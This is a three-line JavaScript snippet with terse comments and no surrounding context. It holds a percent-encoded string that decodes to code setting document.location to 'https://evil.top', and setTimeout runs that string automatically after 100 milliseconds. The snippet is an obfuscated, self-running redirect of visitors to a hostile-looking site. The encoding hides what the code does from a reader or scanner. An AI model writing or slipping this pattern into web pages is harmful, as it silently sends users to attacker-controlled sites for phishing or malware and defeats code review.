// surroundings: emitter
const s = '%64%6F%63%75%6D%65%6E%74%2E%6C%6F%63%61%74%69%6F%6E%3D%27%68%74%74%70%73%3A%2F%2F%65%76%69%6C%2E%74%6F%70%27';
setTimeout(unescape(s), 100); //@act
